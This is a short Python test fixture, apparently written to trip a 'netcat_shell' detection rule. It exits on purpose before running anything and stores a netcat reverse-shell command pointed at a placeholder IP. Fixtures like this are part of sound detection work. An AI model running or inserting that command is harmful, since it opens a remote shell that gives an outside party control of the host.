# Trips netcat_shell.
raise SystemExit("a fixture: never run")
SCRIPT = r"""
nc 192.0.2.1 9 -e /bin/sh
"""
